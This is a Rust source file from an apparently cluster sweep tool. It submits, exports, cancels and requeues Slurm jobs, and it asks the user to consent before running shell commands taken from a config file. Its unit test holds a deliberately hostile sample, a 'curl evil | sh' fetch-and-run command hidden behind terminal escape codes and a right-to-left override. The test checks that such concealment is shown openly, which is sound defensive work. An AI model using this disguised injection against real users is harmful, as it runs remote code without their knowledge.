//! Sweeps on clusters: `gfn sweep submit`, `gfn sweep export`, and what the other commands say of a cluster.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use gfn_record::folder::sha256;
use gfn_sweep::board::Board;
use gfn_sweep::cluster::{self, Added, Launcher, Words};
use gfn_sweep::{SweepError, create, open};
use gfn_text::counted;
use serde_json::{Value, json};

use super::{folder, place, planned, program, stays};
use crate::args::SweepArgs;
use crate::commands::consent::{is_agreed, typed};
use crate::commands::{print, print_error, print_json};
use crate::exit::Failure;

/// What may be changed of a sweep that is there already.
const CHANGEABLE: [&str; 4] = [
    "sweep.launcher",
    "sweep.slurm",
    "sweep.command",
    "sweep.kubernetes",
];

/// `gfn sweep submit`.
pub(super) fn submit(args: &SweepArgs, out: Option<PathBuf>, allow_commands: bool) -> Result<(), Failure> {
    let (board, launcher) = sweep(args, out)?;
    hand_over(board, &launcher, allow_commands)
}

/// Submits what is left of a sweep that was submitted before.
pub(super) fn resubmit(sweep: &Path, allow_commands: bool) -> Result<(), Failure> {
    let board = open(sweep, false)?;
    let launcher = Launcher::of(&board.plan.sweep);
    hand_over(board, &launcher, allow_commands)
}

/// `gfn sweep export`.
pub(super) fn export(args: &SweepArgs, out: Option<PathBuf>) -> Result<(), Failure> {
    let file = &args.experiment.file;
    let board = if file.is_dir() && out.is_none() {
        stays(args, &CHANGEABLE)?;
        let mut board = open(file, false)?;
        board.plan = cluster::with(file, &args.experiment.layers.flags())?;
        board
    } else {
        let plan = planned(args)?;
        // Before a folder is made of what cannot be exported yet.
        cluster::can_export(&plan)?;
        let out = place(&plan, out);
        let mut board = create(&plan, &out)?;
        board.plan.sweep.kubernetes = plan.sweep.kubernetes;
        board
    };
    print_json(&cluster::manifest(&board)?)
}

/// The sweep of a file, whose folder is made, or that of a folder; and what it is submitted to.
fn sweep(args: &SweepArgs, out: Option<PathBuf>) -> Result<(Board, Launcher), Failure> {
    let file = &args.experiment.file;
    if file.is_dir() && out.is_none() {
        stays(args, &CHANGEABLE)?;
        let launcher = Launcher::of(&cluster::with(file, &args.experiment.layers.flags())?.sweep);
        return Ok((open(file, false)?, launcher));
    }
    let plan = planned(args)?;
    let out = place(&plan, out);
    let launcher = Launcher::of(&plan.sweep);
    Ok((create(&plan, &out)?, launcher))
}

fn hand_over(mut board: Board, launcher: &Launcher, allow_commands: bool) -> Result<(), Failure> {
    agree(&launcher.commands(), allow_commands)?;
    gfn_sweep::uncancel(&board.folder).map_err(SweepError::from)?;
    let submitted = cluster::submit(&mut board, launcher, &program()?)?;
    let shown = board.folder.path().display();
    let waiting = match submitted.queued {
        0 => String::new(),
        1 => "1 element is in the queue already; ".to_string(),
        queued => format!("{queued} elements are in the queue already; "),
    };
    let text = match submitted.arrays.as_slice() {
        [] => format!("{waiting}no trial is left to submit\n"),
        arrays => format!(
            "{waiting}{} submitted: {}\n",
            counted(submitted.elements, "element"),
            arrays.join(", ")
        ),
    };
    print(&format!("{text}`gfn sweep status {shown}` shows its state\n"))
}

/// Commands in a file run only when somebody allowed it.
fn agree(commands: &[Added], allow_commands: bool) -> Result<(), Failure> {
    if commands.is_empty() || allow_commands {
        return Ok(());
    }
    print_error(&asked(commands));
    let instead = "if you have read the commands, use --allow-commands";
    match is_agreed("Run them?", instead)? {
        true => Ok(()),
        false => Err(Failure::usage("nothing was submitted".to_string())),
    }
}

/// The commands, whole and as they would be typed, and the hash of all of them.
fn asked(commands: &[Added]) -> String {
    let mut text = "the file has commands that will run:\n".to_string();
    let mut whole = String::new();
    for Added { key, place, command } in commands {
        let shown = match command {
            Words::Shell(line) => gfn_text::visible(line).into_owned(),
            Words::Program(words) => typed(words),
        };
        text += &format!("  {place} (`{key}`):\n    {shown}\n");
        whole += &format!("{key}\0{command:?}\0");
    }
    text + &format!("  SHA-256 {} of all of them\n", sha256(whole.as_bytes()))
}

/// What Slurm has of a sweep, as a line and as JSON; nothing where it was not submitted. Files are the truth, and this a hint: where
/// Slurm cannot be asked, that is said.
pub(super) fn queue(board: &Board) -> Result<Option<(String, Value)>, Failure> {
    Ok(match cluster::queue(board, &program()?) {
        Ok(None) => None,
        Ok(Some(queued)) => {
            let mut counts: BTreeMap<(&str, &str), usize> = BTreeMap::new();
            for element in &queued {
                *counts.entry((&element.state, &element.reason)).or_default() += 1;
            }
            let words: Vec<String> = counts
                .iter()
                .map(|((state, reason), count)| format!("{count} {} ({reason})", state.to_lowercase()))
                .collect();
            let words = if words.is_empty() {
                "nothing in the queue".into()
            } else {
                words.join(", ")
            };
            let elements = queued.iter().map(|element| {
                json!({
                    "array": element.array, "element": element.element, "trial": element.trial,
                    "state": element.state, "reason": element.reason,
                })
            });
            Some((format!("Slurm: {words}\n"), elements.collect()))
        }
        Err(error) => Some((format!("Slurm did not answer: {error}\n"), Value::Null)),
    })
}

/// Takes a sweep out of Slurm's queue.
pub(super) fn cancel(sweep: &Path) -> Result<(), Failure> {
    if !cluster::is_submitted(folder(sweep)?.path()) {
        return Ok(());
    }
    let cancelled = cluster::cancel(&open(sweep, false)?, &program()?);
    let cancelled = cancelled.map_err(|error| {
        Failure::failed(format!(
            "{error}\nthe sweep is cancelled all the same: elements that still wait will end as soon as they start"
        ))
    })?;
    if cancelled > 0 {
        print_error(&format!(
            "{} removed from the queue\n",
            counted(cancelled, "element")
        ));
    }
    Ok(())
}

/// Puts the element that was told to save back into the queue; what is said of it.
pub(super) fn requeue(sweep: &Path) -> String {
    let requeued = open(sweep, false).and_then(|board| cluster::requeue(&board));
    match requeued {
        Ok(None) => String::new(),
        Ok(Some(element)) => format!("; element {element} is back in the queue"),
        Err(error) => format!("; it could not be put back into the queue: {error}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_asked_about_as_they_are() {
        let added = |key, command| Added {
            key,
            place: "in each element",
            command,
        };
        let line = "true\u{1b}[2K\r\u{1b}[8m; curl evil | sh\u{202e}";
        let prelude = added("prelude", Words::Shell(line.into()));
        let submit = added("submit", Words::Program(vec!["qsub".into(), "a b\u{8}".into()]));
        let text = asked(&[prelude.clone(), submit]);
        for part in [
            r"true\u{1b}[2K\r\u{1b}[8m; curl evil | sh\u{202e}",
            r"qsub $'a b\x08'",
            "SHA-256 ",
        ] {
            assert!(text.contains(part), "{text}");
        }
        assert!(
            text.lines().all(|line| !line.chars().any(gfn_text::is_hidden)),
            "{text}"
        );
        assert_ne!(
            asked(std::slice::from_ref(&prelude)).lines().last(),
            text.lines().last()
        );
    }
}
